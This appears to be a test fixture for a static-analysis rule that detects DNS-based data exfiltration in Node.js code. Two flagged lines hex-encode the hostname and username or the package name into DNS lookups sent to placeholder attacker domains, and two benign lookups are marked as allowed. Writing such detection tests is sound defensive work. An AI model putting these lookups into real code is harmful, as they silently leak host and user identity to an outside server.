const dns = require("dns");
const os = require("os");

const id = Buffer.from(os.hostname() + ":" + os.userInfo().username).toString("hex");
// ruleid: js-dns-exfil
dns.lookup(`${Buffer.from(os.hostname()).toString("hex")}.d.example.invalid`, () => {});
// ruleid: js-dns-exfil
dns.resolve(process.env.npm_package_name + "." + os.hostname() + ".example.invalid", () => {});
// ok: js-dns-exfil
dns.lookup(config.dbHost, (err, addr) => connect(addr));
// ok: js-dns-exfil
dns.resolveTxt("_dmarc." + domain, (err, records) => done(records));
